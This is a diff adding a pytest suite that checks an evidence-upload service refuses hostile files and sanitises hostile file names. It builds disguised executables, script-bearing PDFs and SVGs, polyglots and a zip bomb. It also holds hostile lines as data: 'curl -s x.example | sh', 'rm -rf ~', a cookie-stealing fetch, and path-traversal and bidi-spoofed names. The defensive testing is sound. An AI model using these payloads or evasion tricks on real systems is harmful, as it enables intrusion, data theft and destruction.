@@ -1,0 +1,309 @@
+"""Hostile uploads through the service, end to end: each is refused with a message that says what
+was wrong, and leaves no evidence row, no event, no store object and no temp file behind.
+Hostile file names are not refused but made safe: no path, no control or bidi characters."""
+
+from __future__ import annotations
+
+import io
+import struct
+import zipfile
+import zlib
+from collections.abc import Callable
+
+import pytest
+from pypdf import PdfWriter
+from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject
+
+from dispute import cases
+from dispute.context import Context
+from dispute.errors import InvalidInput
+from dispute.exhibits import attach_evidence, list_evidence, upload_key
+from evidence import hazards, names
+from evidence.errors import EvidenceRefused
+from tests.conftest import filing_form, make_user, pdf_bytes, store_files, upload
+from tests.test_evidence_sniff import (elf_bytes, gif_bytes, image_bytes, ls_bytes, pe_bytes,
+                                       wav_bytes, zip_bytes)
+
+MIB = 1 << 20
+SCRIPT_HTML = b"<!DOCTYPE html><html><body><script>fetch('/steal?c='+document.cookie)</script>"
+
+
+# --- hostile files, made here ---------------------------------------------------------------
+
+def pdf_with(edit: Callable[[PdfWriter], None]) -> bytes:
+    writer = PdfWriter()
+    writer.add_blank_page(200, 200)
+    edit(writer)
+    out = io.BytesIO()
+    writer.write(out)
+    return out.getvalue()
+
+
+def pdf_javascript() -> bytes:
+    """Document-level JavaScript (the /Names /JavaScript tree), run when the file opens."""
+    def edit(writer: PdfWriter) -> None:
+        script = writer._add_object(DictionaryObject({
+            NameObject("/S"): NameObject("/JavaScript"),
+            NameObject("/JS"): TextStringObject("app.alert('hello');")}))
+        writer._root_object[NameObject("/Names")] = DictionaryObject({
+            NameObject("/JavaScript"): DictionaryObject({
+                NameObject("/Names"): ArrayObject([TextStringObject("open"), script])})})
+    return pdf_with(edit)
+
+
+def pdf_launch() -> bytes:
+    def edit(writer: PdfWriter) -> None:
+        writer._root_object[NameObject("/OpenAction")] = DictionaryObject({
+            NameObject("/S"): NameObject("/Launch"),
+            NameObject("/F"): TextStringObject("C:\\Windows\\System32\\cmd.exe")})
+    return pdf_with(edit)
+
+
+def pdf_page_action() -> bytes:
+    """JavaScript run when the page opens, in the page's additional actions."""
+    def edit(writer: PdfWriter) -> None:
+        writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): DictionaryObject({
+            NameObject("/S"): NameObject("/JavaScript"),
+            NameObject("/JS"): TextStringObject("this.submitForm('http://x')")})})
+    return pdf_with(edit)
+
+
+def pdf_escaped_names() -> bytes:
+    """"/J#61vaScript" is "/JavaScript" to a PDF reader, not to a naive search."""
+    return pdf_javascript().replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS ", b"/J#53 ")
+
+
+def pdf_script_in_object_stream() -> bytes:
+    """A PDF 1.5 whose action lives compressed in an object stream: no name shows in the bytes."""
+    action = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
+    packed = zlib.compress(b"4 0 " + action)
+    objects = {
+        1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
+        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
+        5: b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n"
+           % len(packed) + packed + b"\nendstream",
+    }
+    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
+    offsets = {}
+    for number, body in objects.items():
+        offsets[number] = len(out)
+        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
+    offsets[6] = len(out)
+    rows = [struct.pack(">BIH", 0, 0, 0xFFFF)]
+    for number in range(1, 7):
+        rows.append(struct.pack(">BIH", 2, 5, 0) if number == 4
+                    else struct.pack(">BIH", 1, offsets[number], 0))
+    table = b"".join(rows)
+    out += (b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n"
+            % len(table) + table + b"\nendstream\nendobj\n")
+    out += b"startxref\n%d\n%%%%EOF\n" % offsets[6]
+    return bytes(out)
+
+
+def jpeg() -> bytes:
+    return image_bytes("JPEG", (64, 48))
+
+
+def jpeg_with_comment(text: bytes) -> bytes:
+    data = jpeg()
+    return data[:2] + b"\xff\xfe" + struct.pack(">H", len(text) + 2) + text + data[2:]
+
+
+def jar_bytes() -> bytes:
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w") as z:
+        z.writestr("META-INF/MANIFEST.MF", "Manifest-Version: 1.0\nMain-Class: Evil\n")
+        z.writestr("Evil.class", b"\xca\xfe\xba\xbe" + bytes(60))
+    return out.getvalue()
+
+
+def zip_bomb() -> bytes:
+    """64 MiB of zeros in well under 1 MiB; never unpacked, but it must not be stored either."""
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
+        with z.open("statement.pdf", "w", force_zip64=True) as member:
+            for _ in range(64):
+                member.write(bytes(MIB))
+    return out.getvalue()
+
+
+def svg(script: bool = True, prefix: bytes = b"") -> bytes:
+    body = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
+    if script:
+        body += b"<script>alert(document.domain)</script>"
+    return prefix + body + b"</svg>"
+
+
+def over_limit(ctx: Context) -> bytes:
+    body = b"%PDF-1.4\n" + bytes(ctx.settings.max_upload_bytes + 1 - 16) + b"\n%%EOF\n"
+    assert len(body) == ctx.settings.max_upload_bytes + 1
+    return body
+
+
+# (test id, file name, maker, refusal code, words the message must contain)
+HOSTILE: list[tuple[str, str, Callable[..., bytes], str, str]] = [
+    ("ELF named .pdf", "statement.pdf", elf_bytes, "disguised", "Linux program"),
+    ("ELF named .jpg", "receipt.jpg", elf_bytes, "disguised", "Linux program"),
+    ("/bin/ls named .m4a", "call.m4a", ls_bytes, "disguised", "Linux program"),
+    ("PE named .pdf", "statement.pdf", pe_bytes, "disguised", "Windows program"),
+    ("PE named .exe", "setup.exe", pe_bytes, "type_not_accepted", "Windows program"),
+    ("JAR named .pdf", "statement.pdf", jar_bytes, "disguised", "claims PDF"),
+    ("shell script named .txt", "notes.txt", lambda: b"#!/bin/bash\ncurl -s x.example | sh\n",
+     "disguised", "shell script"),
+    ("shell script named .sh", "fix.sh", lambda: b"#!/bin/sh\nrm -rf ~\n", "type_not_accepted",
+     "shell script"),
+    ("script without a name", "install", lambda: b"#!/usr/bin/env python3\nimport os\n",
+     "type_not_accepted", "script"),
+    ("HTML with script named .pdf", "statement.pdf", lambda: SCRIPT_HTML, "disguised",
+     "HTML page"),
+    ("HTML named .htm", "page.htm", lambda: SCRIPT_HTML, "type_not_accepted", "HTML page"),
+    ("script after 2 KB of text named .txt", "notes.txt",
+     lambda: "还款记录\n".encode() * 200 + b"<script>alert(1)</script>", "disguised", "HTML page"),
+    ("SVG with script named .svg", "chart.svg", svg, "type_not_accepted", "SVG image"),
+    ("SVG named .png", "chart.png", lambda: svg(False), "disguised", "SVG image"),
+    ("SVG behind a comment named .jpg", "photo.jpg", lambda: svg(prefix=b"<!-- photo -->\n"),
+     "disguised", "HTML page"),  # libmagic's word for it; refused all the same
+    ("PDF with JavaScript", "statement.pdf", pdf_javascript, "active_content", "JavaScript"),
+    ("PDF with a launch action", "statement.pdf", pdf_launch, "active_content", "launch action"),
+    ("PDF with a page-open script", "statement.pdf", pdf_page_action, "active_content",
+     "JavaScript"),
+    ("PDF with escaped names", "statement.pdf", pdf_escaped_names, "active_content",
+     "JavaScript"),
+    ("PDF with script in an object stream", "statement.pdf", pdf_script_in_object_stream,
+     "active_content", "JavaScript"),
+    ("JPEG that is also a ZIP", "photo.jpg", lambda: jpeg() + zip_bytes(), "polyglot",
+     "ZIP archive"),
+    ("JPEG with HTML appended", "photo.jpg", lambda: jpeg() + SCRIPT_HTML, "polyglot",
+     "HTML or script"),
+    ("JPEG with script in its comment", "photo.jpg",
+     lambda: jpeg_with_comment(b"<script>alert(1)</script>"), "polyglot", "HTML or script"),
+    ("PNG that is also a ZIP", "screen.png", lambda: image_bytes("PNG") + zip_bytes(),
+     "polyglot", "ZIP archive"),
+    ("WAV that is also a JAR", "call.wav", lambda: wav_bytes() + jar_bytes(), "polyglot",
+     "ZIP archive"),
+    ("GIFAR named .jpg", "photo.jpg", lambda: gif_bytes() + jar_bytes(), "type_not_accepted",
+     "GIF image"),
+    ("ZIP bomb named .pdf", "statement.pdf", zip_bomb, "disguised", "ZIP archive"),
+    ("truncated PDF", "statement.pdf", lambda: pdf_bytes()[: len(pdf_bytes()) // 2],
+     "incomplete", "incomplete PDF"),
+    ("PDF cut before its end marker", "statement.pdf", lambda: pdf_bytes()[:-7], "incomplete",
+     "incomplete PDF"),
+    ("7-Zip named .jpg", "photo.jpg", lambda: b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(200),
+     "disguised", "7-Zip"),
+    ("0 bytes", "statement.pdf", lambda: b"", "empty", "0 bytes"),
+    ("one byte over the limit", "statement.pdf", over_limit, "too_large",
+     "largest file accepted is 2 MB"),
+]
+
+
+def snapshot(ctx: Context) -> tuple:
+    """Everything an upload could leave behind."""
+    return (ctx.db.query("SELECT count(*) FROM evidence").scalar(),
+            ctx.db.query("SELECT count(*) FROM events").scalar(),
+            ctx.db.query("SELECT max(version) FROM disputes").scalar(),
+            sorted(store_files(ctx)))
+
+
+@pytest.fixture
+def filed(ctx: Context) -> tuple:
+    borrower = make_user(ctx)
+    number = cases.file_dispute(ctx, borrower, filing_form(), [upload("a.pdf", pdf_bytes())])
+    return borrower, number
+
+
+def make(maker: Callable[..., bytes], ctx: Context) -> bytes:
+    return maker(ctx) if maker is over_limit else maker()
+
+
+def test_there_are_at_least_25_hostile_files() -> None:
+    assert len(HOSTILE) >= 25
+
+
+@pytest.mark.parametrize(("name", "maker", "code", "words"), [h[1:] for h in HOSTILE],
+                         ids=[h[0] for h in HOSTILE])
+def test_hostile_file_is_refused_and_nothing_is_stored(ctx: Context, filed: tuple, name: str,
+                                                       maker: Callable[..., bytes], code: str,
+                                                       words: str) -> None:
+    borrower, number = filed
+    before = snapshot(ctx)
+    with pytest.raises(InvalidInput) as refused:
+        attach_evidence(ctx, borrower, number, [upload(name, make(maker, ctx))])
+    problem = refused.value.fields[upload_key(0)]
+    assert isinstance(problem, EvidenceRefused)
+    assert problem.code == code
+    message = str(problem)
+    assert words in message and names.display_name(name) in message
+    assert snapshot(ctx) == before
+    assert store_files(ctx, "tmp") == []
+
+
+@pytest.mark.parametrize("index", [0, 15, 20, 26])
+def test_a_hostile_file_in_a_new_dispute_files_nothing(ctx: Context, index: int) -> None:
+    """Beside a good file: the whole filing is refused, the good file is not kept either."""
+    _, name, maker, code, _ = HOSTILE[index]
+    borrower = make_user(ctx)
+    before = snapshot(ctx)
+    with pytest.raises(InvalidInput) as refused:
+        cases.file_dispute(ctx, borrower, filing_form(),
+                           [upload("good.pdf", pdf_bytes("good")), upload(name, maker())])
+    assert refused.value.fields[upload_key(1)].code == code
+    assert snapshot(ctx) == before
+    assert ctx.db.query("SELECT count(*) FROM disputes").scalar() == 0
+
+
+@pytest.mark.parametrize(("given", "stored"), [
+    ("../../../etc/passwd.pdf", "passwd.pdf"),
+    ("..\\..\\windows\\system32\\statement.pdf", "statement.pdf"),
+    ("state\x00ment.pdf", "statement.pdf"),
+    ("\x1b[31mred\x07\x08.pdf", "[31mred.pdf"),
+    ("line\r\nbreak.pdf", "linebreak.pdf"),
+    ("invoice\u202efdp.exe.pdf", "invoicefdp.exe.pdf"),
+    ("\u2067evil\u2069 statement.pdf", "evil statement.pdf"),
+    ("<img src=x onerror=alert(1)>.pdf", "<img src=x onerror=alert(1)>.pdf"),
+])
+def test_hostile_names_are_stored_made_safe(ctx: Context, filed: tuple, given: str,
+                                           stored: str) -> None:
+    """Sanitised, not refused: the bytes are what matter as evidence, and the cleaned name can
+    neither reach the file system (objects are named by SHA-256) nor disguise itself on screen.
+    Markup in a name is kept as text; pages escape it where they show it."""
+    borrower, number = filed
+    attach_evidence(ctx, borrower, number, [upload(given, pdf_bytes(given))])
+    item = list_evidence(ctx, borrower, number)[-1]
+    assert item.original_name == stored
+    assert not any(c in item.original_name for c in "/\\\x00\r\n\u202e\u2067\u2069")
+    assert store_files(ctx, "tmp") == []
+    assert all(len(p.name) == 64 for p in store_files(ctx, "objects"))
+
+
+def test_fixture_like_pdfs_with_ordinary_actions_are_kept(ctx: Context, filed: tuple) -> None:
+    """An /OpenAction that only opens a page, and an embedded attachment, are not scripts."""
+    borrower, number = filed
+
+    def go_to_page(writer: PdfWriter) -> None:
+        writer._root_object[NameObject("/OpenAction")] = ArrayObject(
+            [writer.pages[0].indirect_reference, NameObject("/Fit")])
+        writer.add_attachment("data.csv", b"date,amount\n2026-09-01,100\n")
+
+    attach_evidence(ctx, borrower, number, [upload("ok.pdf", pdf_with(go_to_page))])
+    assert list_evidence(ctx, borrower, number)[-1].media_type == "application/pdf"
+
+
+def test_a_script_in_an_object_stream_is_found_only_by_parsing() -> None:
+    data = pdf_script_in_object_stream()
+    assert b"JavaScript" not in data
+    assert hazards._raw_active_names(io.BytesIO(data)) is None
+    assert hazards.pdf_active_content(io.BytesIO(data)) == hazards.JAVASCRIPT
+
+
+def test_every_real_fixture_pdf_passes_the_hazard_checks(fixtures_dir) -> None:
+    for path in sorted((fixtures_dir / "pdf").glob("*.pdf")):
+        with path.open("rb") as fh:
+            assert not hazards.pdf_is_truncated(fh), path.name
+            assert hazards.pdf_active_content(fh) is None, path.name
+
+
+def test_short_names_in_compressed_data_are_not_mistaken_for_scripts() -> None:
+    """"/JS " can occur by chance inside a compressed image; only a real name counts."""
+    data = pdf_bytes().replace(b"%%EOF", b"% image bytes /JS /JSON\n%%EOF")
+    assert hazards.pdf_active_content(io.BytesIO(data)) is None
